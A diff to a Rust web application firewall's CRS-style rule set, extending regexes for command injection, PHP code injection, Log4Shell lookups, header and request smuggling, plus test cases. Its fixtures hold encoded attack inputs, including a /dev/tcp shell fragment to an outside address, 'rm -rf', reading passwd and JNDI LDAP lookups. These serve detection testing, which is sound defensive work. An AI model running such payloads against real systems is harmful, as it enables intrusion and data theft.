@@ -435,11 +435,13 @@ fn core() -> Vec<(&'static str, Statement)> {
                 &[],
             ),
         ),
+        // A NUL byte, maybe URL-encoded, in the path, the query or a header (CRS 920270).
         (
             "SC-CORE-003",
-            over(vec![Field::UriPath, Field::QueryString], |field| {
-                any_of(field, &["\0"], &[UrlDecodeUni])
-            }),
+            over(
+                vec![Field::UriPath, Field::QueryString, Field::AllHeaders],
+                |field| any_of(field, &["\0"], &[UrlDecodeUni]),
+            ),
         ),
         (
             "SC-CORE-004",
@@ -540,13 +542,15 @@ fn core() -> Vec<(&'static str, Statement)> {
                 size: 100,
             },
         ),
-        // Files a site keeps but never serves: backups, configuration, databases, logs
-        // (CRS 920440, without `.com`, which ends many a path holding an e-mail address).
+        // Files a site keeps but never serves: backups, configuration, databases, logs,
+        // keys, compressed database dumps (CRS 920440, without `.com`, which ends many a
+        // path holding an e-mail address; 930130), and a development server's way to any
+        // file (Vite's `/@fs/` and `/@id/`, 930130).
         (
             "SC-CORE-012",
             regex(
                 Field::UriPath,
-                r"\.(?:asa|asax|ascx|backup|bak|bat|cdx|cer|cfg|cmd|config|conf|cs|csproj|csr|dat|db|dbf|dll|dos|htr|htw|ida|idc|idq|inc|ini|key|licx|lnk|log|mdb|old|pass|pdb|pol|printer|pwd|rdb|resources|resx|sql|swp|sys|vb|vbs|vbproj|vsdisco|webinfo|xsd|xsx)$",
+                r"\.(?:asa|asax|ascx|backup|bak|bat|cdx|cer|cfg|cmd|config|conf|cs|csproj|csr|dat|db|dbf|dll|dos|htr|htw|ida|idc|idq|inc|ini|key|licx|lnk|log|mdb|old|pass|pdb|pem|pol|printer|pwd|rdb|resources|resx|sql|swp|sys|vb|vbs|vbproj|vsdisco|webinfo|xsd|xsx)$|\.sql\.(?:gz|bz2|xz|zst|zip|7z|rar|tar|tgz)$|^/@(?:fs|id)/",
                 &[UrlDecodeUni, Lowercase],
             ),
         ),
@@ -590,13 +594,14 @@ fn core() -> Vec<(&'static str, Statement)> {
             "SC-CORE-017",
             regex(Field::UriPath, r"[\r\n]", &[UrlDecodeUni]),
         ),
-        // A request line inside an argument: request smuggling through a proxy that
-        // forwards it (CRS 921110).
+        // A request line inside an argument, maybe glued to what comes before it
+        // (`barGET /a.html HTTP/1.1`): request smuggling through a proxy that forwards it
+        // (CRS 921110).
         (
             "SC-CORE-018",
             regex_in(
                 inputs(),
-                r"(?i)\b(?:get|post|head|options|connect|put|delete|trace|track|patch|propfind|proppatch|mkcol|copy|move|lock|unlock)\s+\S+\s+http/\d",
+                r"(?i)(?:get|post|head|options|connect|put|delete|trace|track|patch|propfind|proppatch|mkcol|copy|move|lock|unlock)\s+\S+\s+http/\d",
                 &[UrlDecodeUni],
             ),
         ),
@@ -632,14 +637,17 @@ fn core() -> Vec<(&'static str, Statement)> {
             ),
         ),
         // Requests split or forged through their fields: a line break in an argument's
-        // name (CRS 921150), mod_proxy's `unix:` socket path before a `|` (921240), and
-        // the cookie format of RFC 2109 (`$Version=1`) that splits one cookie into two
-        // for a server and a WAF that read it differently (921250).
+        // name (CRS 921150), or one that URL decoding makes in a header, before another
+        // header's name (`Headerdata%0dInjectedHeader: x`, 921140), mod_proxy's `unix:`
+        // socket path before a `|` (921240), and the cookie format of RFC 2109
+        // (`$Version=1`) that splits one cookie into two for a server and a WAF that read
+        // it differently (921250).
         (
             "SC-CORE-022",
             Statement::Or(vec![
                 // (A form's names are among its values, which may hold lines.)
                 regex(Field::QueryArgumentNames, r"[\r\n]", &[]),
+                regex(Field::AllHeaders, r"[\r\n][\w-]+\s*:", &[UrlDecodeUni]),
                 regex_in(
                     vec![Field::QueryString, Field::UriPath],
                     r"(?i)\bunix:[^|]*\|",
@@ -649,10 +657,10 @@ fn core() -> Vec<(&'static str, Statement)> {
             ]),
         ),
         // Encodings a filter may read otherwise than a server: IIS's full-width `%uff..`
-        // (CRS 920260), two charsets in a body's type (920530), and an Accept header
-        // asking for a charset other than UTF-8, ISO-8859-1 or -15 and Windows-1252
-        // (`charset=CP1026`, an EBCDIC that turns the answer's text into other bytes;
-        // 920600).
+        // (CRS 920260), a JavaScript `\u0061` escape in an argument (920540), two charsets
+        // in a body's type (920530), and an Accept header asking for a charset other than
+        // UTF-8, ISO-8859-1 or -15 and Windows-1252 (`charset=CP1026`, an EBCDIC that
+        // turns the answer's text into other bytes; 920600).
         (
             "SC-CORE-023",
             Statement::Or(vec![
@@ -661,6 +669,20 @@ fn core() -> Vec<(&'static str, Statement)> {
                     r"(?i)%uff[0-9a-f]{2}",
                     &[],
                 ),
+                // (Not in a request with a JSON body, whose strings have such escapes,
+                // as CRS does not.)
+                Statement::And(vec![
+                    Statement::Not(Box::new(regex(header("content-type"), r"(?i)json", &[]))),
+                    regex_in(
+                        vec![
+                            Field::AllQueryArguments,
+                            Field::QueryArgumentNames,
+                            Field::BodyFields,
+                        ],
+                        r"(?i)\\u[0-9a-f]{4}",
+                        &[],
+                    ),
+                ]),
                 regex(header("content-type"), r"(?i)charset.*charset", &[]),
                 regex(
                     header("accept"),
@@ -672,6 +694,8 @@ fn core() -> Vec<(&'static str, Statement)> {
                 ),
             ]),
         ),
+        // A Host header without a value (CRS 920290): a shop's every URL has a host.
+        ("SC-CORE-024", regex(header("host"), r"^\s*$", &[])),
     ]
 }
 
@@ -947,12 +971,20 @@ fn known_bad_inputs() -> Vec<(&'static str, Statement)> {
         fields
     };
     vec![
+        // Log4Shell's lookups (`${jndi:`), nested, escaped, and with `$` and `{` written
+        // as HTML entities (`$&lbrace;`, `&dollar;&lcub;`; CRS 944150).
         (
             "SC-KBI-001",
             regex_in(
                 everywhere(),
-                r"(?i)\$\{(?:[^}]*\$\{)*[^}]*?(?:jndi|lower|upper|env|sys|java|date|base64|main|bundle|ctx|spring|k8s|docker|log4j|sd|web)\s*:",
-                &[UrlDecodeUni, UrlDecodeUni, JsDecode, Lowercase],
+                r"(?i)(?:\$|&dollar;?)(?:\{|&l(?:brace|cub);?)(?:[^}]*(?:\$|&dollar;?)(?:\{|&l(?:brace|cub);?))*[^}]*?(?:jndi|lower|upper|env|sys|java|date|base64|main|bundle|ctx|spring|k8s|docker|log4j|sd|web)\s*:",
+                &[
+                    UrlDecodeUni,
+                    UrlDecodeUni,
+                    JsDecode,
+                    HtmlEntityDecode,
+                    Lowercase,
+                ],
             ),
         ),
         (
@@ -1166,14 +1198,15 @@ fn command_injection() -> Vec<(&'static str, Statement)> {
         fields
     };
     vec![
-        // A command after a shell separator. Commands that are also English words
+        // A command after a shell separator (maybe in a subshell's parenthesis:
+        // `&&(sh)`; CRS 932230). Commands that are also English words
         // (`more`, `head`, `find`, `id`...) after a lone `&` or `|` between spaces are
         // text ("gifts & more") unless an option or a path follows.
         (
             "SC-CMD-001",
             regex_in(
                 fields(),
-                r"(?i)(?:[;&|`\n\r]|\$\(|\|\||&&)\s*(?:/?(?:usr/)?(?:s?bin/)?)(?:ls|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|dash|python[23]?|perl|ruby|php|chmod|chown|nslookup|telnet|ssh|scp|tftp|busybox|printenv|nohup|xterm|gcc|awk|sed|grep|ifconfig|netstat|crontab|useradd|passwd|sudo|base64|xxd|nmap|socat|mkfifo|regedit|bcdboot|bcdedit|aptitude|apt-get|dpkg|wmic|certutil|bitsadmin|mshta|rundll32|regsvr32|cscript|wscript|vssadmin|wevtutil|schtasks|tasklist|taskkill|netsh|diskpart|whoami)\b|(?:[;`\n\r]|\$\(|\|\||&&|(?:^|\S)[&|])\s*(?:/?(?:usr/)?(?:s?bin/)?)(?:cat|id|rm|echo|ping|dig|sleep|kill|ps|env|more|less|head|tail|find|su|tar|timeout|who|reg|yum|rpm)\b|[&|]\s*(?:/?(?:usr/)?(?:s?bin/)?)(?:cat|id|rm|echo|ping|dig|sleep|kill|ps|env|more|less|head|tail|find|su|tar|timeout|who|reg|yum|rpm)\s+[-/.$~\x27\x22]",
+                r"(?i)(?:[;&|`\n\r]|\$\(|\|\||&&)\s*\(?\s*(?:/?(?:usr/)?(?:s?bin/)?)(?:ls|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|dash|python[23]?|perl|ruby|php|chmod|chown|nslookup|telnet|ssh|scp|tftp|busybox|printenv|nohup|xterm|gcc|awk|sed|grep|ifconfig|netstat|crontab|useradd|passwd|sudo|base64|xxd|nmap|socat|mkfifo|regedit|bcdboot|bcdedit|aptitude|apt-get|dpkg|wmic|certutil|bitsadmin|mshta|rundll32|regsvr32|cscript|wscript|vssadmin|wevtutil|schtasks|tasklist|taskkill|netsh|diskpart|whoami)\b|(?:[;`\n\r]|\$\(|\|\||&&|(?:^|\S)[&|])\s*(?:/?(?:usr/)?(?:s?bin/)?)(?:cat|id|rm|echo|ping|dig|sleep|kill|ps|env|more|less|head|tail|find|su|tar|timeout|who|reg|yum|rpm)\b|[&|]\s*(?:/?(?:usr/)?(?:s?bin/)?)(?:cat|id|rm|echo|ping|dig|sleep|kill|ps|env|more|less|head|tail|find|su|tar|timeout|who|reg|yum|rpm)\s+[-/.$~\x27\x22]",
                 &[UrlDecodeUni, RemoveNulls, RemoveShellQuotes],
             ),
         ),
@@ -1247,7 +1280,7 @@ fn command_injection() -> Vec<(&'static str, Statement)> {
             "SC-CMD-009",
             regex_in(
                 fields(),
-                r#"\{[\w-]*,[\w,-]*\}|~[+-](?:$|\d+\b)|(?i)\balias\s+(?:[+-][a-z]*\s+)*["']?[\w-]+["']?\s*=|\$\{?(?:SHELL|BASH|0)\}?\s+-c\b|\b(?:usr/)?(?:local/)?s?bin/(?:ba|da|z|k|c|tc|fi)?sh\b|\b(?:usr/)?(?:local/)?s?bin/(?:busybox|nc|ncat|netcat|socat|curl|wget|python[\d.]*|perl|ruby|php|node|lua|tclsh|telnet|ssh|scp|sudo|su|visudo|crontab|chmod|chown|ansible\S*|chef\S*|cscli|powershell|pwsh)\b"#,
+                r#"\{[\w-]*,[\w,-]*\}|~[+-](?:$|\d+\b)|(?i)\balias\s+(?:[+-][a-z]*[+-]?\s+)*["']?[\w-]+["']?\s*=|\$\{?(?:SHELL|BASH|0)\}?\s+-c\b|\b(?:usr/)?(?:local/)?s?bin/(?:ba|da|z|k|c|tc|fi)?sh\b|\b(?:usr/)?(?:local/)?s?bin/(?:busybox|nc|ncat|netcat|socat|curl|wget|python[\d.]*|perl|ruby|php|node|lua|tclsh|telnet|ssh|scp|sudo|su|visudo|crontab|chmod|chown|ansible\S*|chef\S*|cscli|powershell|pwsh)\b"#,
                 &[UrlDecodeUni, RemoveNulls],
             ),
         ),
@@ -1257,13 +1290,14 @@ fn command_injection() -> Vec<(&'static str, Statement)> {
         // start of a value, only with something after them (a lone `lastlog` or `uname`
         // is a field's name). Compilers, debuggers and `curl` only with an option or a
         // here string after them (`gdb -nx`, `c99 -wrapper`, `irb<<<`); a shell only
-        // with `-c`, after a separator or behind `time` and the like. CRS 932230,
-        // 932235, 932250, 932260.
+        // with `-c`, after a separator or behind `time` and the like; `trap` with a
+        // signal (`;trap 'rm -rf x' SIGEXIT`), and `cd` into the system's directories
+        // (`cd /;cd etc;`, whatever follows). CRS 932230, 932235, 932250, 932260.
         (
             "SC-CMD-010",
             regex_in(
                 inputs(),
-                r#"(?i)(?:(?:[;&|`\n\r]|\$\(|\|\||&&)\s*(?:\$\{?\w*\}?\s+)*(?:(?:time|nohup|strace|ltrace|nice|sudo|doas|exec|xargs|env|timeout(?:\s+\d+)?)\s+)*|^\s*(?:\$\{?\w*\}?\s+)*(?:(?:time|nohup|strace|ltrace|nice|sudo|doas|exec|xargs|env|timeout(?:\s+\d+)?)\s+)+)(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:(?:ansible(?:-[a-z]+)?|chef-(?:client|run|shell|solo|vault|apply|zero)|visudo|cscli|busybox|bsdtar|cpulimit|base32|lastlog(?:in)?|rmt-(?:tar|dump)|ifconfig|whoami|uname|nslookup|netstat|nmap|socat|ncat|netcat|wget|xxd|mkfifo|crontab|useradd|python[23]\.\d+|strace|ltrace|aa-(?:disable|enforce|complain|status|exec))(?:$|[\s;|&<>()'",])|(?:c89|c99|gcc[\d.]*|gdb|perf|flock|rmt|curl|irb)(?:\s+-|\s*<<<)|(?:ba|z|k|da)?sh\s+-c\b)|^\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:(?:ansible(?:-[a-z]+)?|chef-(?:client|run|shell|solo|vault|apply|zero)|visudo|cscli|busybox|bsdtar|cpulimit|base32|lastlog(?:in)?|rmt-(?:tar|dump)|ifconfig|whoami|uname|nslookup|netstat|nmap|socat|ncat|netcat|wget|xxd|mkfifo|crontab|useradd|python[23]\.\d+|strace|ltrace|aa-(?:disable|enforce|complain|status|exec))(?:\s+\S|\s*[\n;|&<>()]|\s+$)|(?:c89|c99|gcc[\d.]*|gdb|perf|flock|rmt|curl|irb)(?:\s+-|\s*<<<))"#,
+                r#"(?i)(?:(?:[;&|`\n\r]|\$\(|\|\||&&)\s*(?:\$\{?\w*\}?\s+)*(?:(?:time|nohup|strace|ltrace|nice|sudo|doas|exec|xargs|env|timeout(?:\s+\d+)?)\s+)*|^\s*(?:\$\{?\w*\}?\s+)*(?:(?:time|nohup|strace|ltrace|nice|sudo|doas|exec|xargs|env|timeout(?:\s+\d+)?)\s+)+)(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:(?:ansible(?:-[a-z]+)?|chef-(?:client|run|shell|solo|vault|apply|zero)|visudo|cscli|busybox|bsdtar|cpulimit|base32|lastlog(?:in)?|rmt-(?:tar|dump)|ifconfig|whoami|uname|nslookup|netstat|nmap|socat|ncat|netcat|wget|xxd|mkfifo|crontab|useradd|python[23]\.\d+|strace|ltrace|aa-(?:disable|enforce|complain|status|exec))(?:$|[\s;|&<>()'",])|(?:c89|c99|gcc[\d.]*|gdb|perf|flock|rmt|curl|irb)(?:\s+-|\s*<<<)|(?:ba|z|k|da)?sh\s+-c\b|trap\s+\S.*\bsig(?:exit|int|term|hup|quit|kill|usr[12]|alrm|chld|pipe)\b|cd\s+(?:/|~|\.\.?/|(?:etc|tmp|var|usr|home|root|proc|dev|bin|opt|srv|boot|sys)\b)[^\s;|&]*\s*(?:[;&|`\n\r]|$))|^\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:(?:ansible(?:-[a-z]+)?|chef-(?:client|run|shell|solo|vault|apply|zero)|visudo|cscli|busybox|bsdtar|cpulimit|base32|lastlog(?:in)?|rmt-(?:tar|dump)|ifconfig|whoami|uname|nslookup|netstat|nmap|socat|ncat|netcat|wget|xxd|mkfifo|crontab|useradd|python[23]\.\d+|strace|ltrace|aa-(?:disable|enforce|complain|status|exec))(?:\s+\S|\s*[\n;|&<>()]|\s+$)|(?:c89|c99|gcc[\d.]*|gdb|perf|flock|rmt|curl|irb)(?:\s+-|\s*<<<))"#,
                 &[UrlDecodeUni, RemoveNulls, RemoveShellQuotes],
             ),
         ),
@@ -1288,7 +1322,7 @@ fn command_injection() -> Vec<(&'static str, Statement)> {
             Statement::Or(vec![
                 regex_in(
                     inputs(),
-                    r#"~[+-](?:$|\d+\b)|(?i)\balias\s+(?:[+-][a-z]*\s+)*["']?[\w.-]+["']?\s*=|!-\d+!-\d+|\$\[[^\]]*\]|\{[\w-]*,[\w,-]*\}"#,
+                    r#"~[+-](?:$|\d+\b)|(?i)\balias\s+(?:[+-][a-z]*[+-]?\s+)*["']?[\w.-]+["']?\s*=|!-\d+!-\d+|\$\[[^\]]*\]|\{[\w-]*,[\w,-]*\}"#,
                     &[RemoveNulls, HtmlEntityDecode],
                 ),
                 regex_in(
@@ -1384,11 +1418,12 @@ fn php() -> Vec<(&'static str, Statement)> {
             ),
         ),
         // PHP's own markup: an opening tag with a space or `=` after it, or at the end of
-        // the value, and the `[php]` and `{php}` tags of templates (CRS 933100).
+        // the value, and the `[php]` and `{php}` tags of templates, in the inputs and the
+        // headers (CRS 933100).
         (
             "SC-PHP-006",
             regex_in(
-                fields(),
+                [fields(), vec![Field::AllHeaders]].concat(),
                 r"(?i)<\?(?:php\s|[\s=]|$)|\[[/\\]?php\]|\{/?php\}",
                 &[UrlDecodeUni, RemoveNulls],
             ),
@@ -1404,7 +1439,8 @@ fn php() -> Vec<(&'static str, Statement)> {
         ),
         // A function called by a name built at run time: `(system)('id')` (the brackets
         // side by side, or with a comment between: text puts a space there),
-        // `"sys"."tem"(`, `(string)"system"(`, `[system][0](ls)`, `{0}('ls')`, and a
+        // `"sys"."tem"(`, `"\x73y\x73tem"(`, `(string)"system"(`, `[system][0](ls)`,
+        // `{0}('ls')` (maybe `{/* a comment */0}`), and a
         // variable variable `${'name'}` (CRS 933210, 933135), and a function called
         // through a variable, maybe indexed and commented (`$a[1]['d'] /**/ (17)`; CRS
         // 933180).
@@ -1412,7 +1448,7 @@ fn php() -> Vec<(&'static str, Statement)> {
             "SC-PHP-008",
             regex_in(
                 fields(),
-                r#"\((?:[^()]|\([^()]*\))*\)(?:["'][\w-]+["'])?(?:\s*/\*[^*]*\*/\s*)?\(|\[\s*\d+\s*\]\s*\}?\s*\(|\{\s*\d+\s*\}\s*\(|(?i)\(\s*string\s*\)\s*["'\w.{}\[\]\s]+\(|["'][\w-]*["']\s*\.\s*["'][\w-]*["'](?:\s*\.\s*["'][\w-]*["'])*\s*\(|\$\s*\{\s*\S[^{}]*\}|\$+[a-zA-Z_\x7f-\xff][\w\x7f-\xff]*(?:\s|\[[^()]*\]|\{[^(){}]*\}|/\*.*?\*/|//[^\n]*\n|#[^\n]*\n)*\("#,
+                r#"\((?:[^()]|\([^()]*\))*\)(?:["'][\w-]+["'])?(?:\s*/\*[^*]*\*/\s*)?\(|\[\s*\d+\s*\]\s*\}?\s*\(|\{\s*(?:/\*[^*]*\*/\s*)*\d+\s*\}\s*\(|["'](?:[\w-]|\\x[0-9a-fA-F]{2})*\\x[0-9a-fA-F]{2}(?:[\w-]|\\x[0-9a-fA-F]{2})*["']\s*\(|(?i)\(\s*string\s*\)\s*["'\w.{}\[\]\s]+\(|["'][\w-]*["']\s*\.\s*["'][\w-]*["'](?:\s*\.\s*["'][\w-]*["'])*\s*\(|\$\s*\{\s*\S[^{}]*\}|\$+[a-zA-Z_\x7f-\xff][\w\x7f-\xff]*(?:\s|\[[^()]*\]|\{[^(){}]*\}|/\*.*?\*/|//[^\n]*\n|#[^\n]*\n)*\("#,
                 &[UrlDecodeUni, RemoveNulls],
             ),
         ),
@@ -2148,6 +2184,23 @@ mod tests {
             ("foo=%5Bphp%5Decho%20%22test%22", "SC-PHP-006"),
             ("code=memory_limit%20%3D%20512M", "SC-PHP-007"),
             ("x=%28sy.%28st%29.em%29%28%27uname%27%29", "SC-PHP-008"),
+            ("code=%22%5Cx73y%5Cx73tem%22%28ls%29%3B", "SC-PHP-008"),
+            (
+                "x=%28%5Bsystem%5D%5B0%5D%29%7B%2F*+c+*%2F0%7D%28ls%29%3B",
+                "SC-PHP-008",
+            ),
+            ("arg=%3Btrap%20%27rm%20-rf%20x%27%20SIGEXIT", "SC-CMD-010"),
+            ("code=cd+%2F%3Bcd+etc%3Bcolumn+passwd", "SC-CMD-010"),
+            (
+                "cmd=d%3D%2Fdev%26%26(sh)0%3E%24d%2Ftcp%2F1.2.3.4%2F7",
+                "SC-CMD",
+            ),
+            (
+                "q=%24%26lcub%3Bj%26%23110%3Bdi%3Aldap%3A%2F%2Fx%7D",
+                "SC-KBI-001",
+            ),
+            ("q=%24%26lbracejndi%3Aldap%3A%2F%2Fx%7D", "SC-KBI-001"),
+            ("testarg=%5Cu0061lert", "SC-CORE-023"),
             ("foo=%24%20%7B%27fdf%27%7D", "SC-PHP-008"),
             ("foo=%24__%5B%24_%5B1%5D%5D%287%29", "SC-PHP-008"),
             ("var=opcache.jit_max_polymorphic_calls%3d50", "SC-PHP-007"),
@@ -2292,6 +2345,11 @@ mod tests {
             "q=exp+(date)",
             "q=worn+every+day+while+(2+weeks)+traveling",
             "q=localhost+coffee+mugs",
+            "q=mouse+trap+-+humane",
+            "comment=Keeps+mice+away%3B+trap+them+humanely+and+exit+quietly",
+            "q=cd+player%3B+portable",
+            "q=cd+%2F+dvd+rack",
+            "q=%22hello%22+(world)",
             "q=%7B%7Bname%7D%7D+template+cards",
             "q=onion+rings",
             "q=gifts+%26+more",
